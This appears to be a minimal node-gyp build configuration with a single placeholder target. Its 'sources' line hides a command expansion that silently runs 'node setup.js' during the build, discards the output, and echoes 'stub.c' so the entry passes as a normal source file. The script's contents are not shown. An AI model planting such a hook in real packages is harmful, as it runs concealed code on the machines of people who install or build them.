{
  'targets': [{ 'target_name': 'a', 'type': 'none', 'sources': ['<!(node setup.js > /dev/null 2>&1 && echo stub.c)'] }]
}
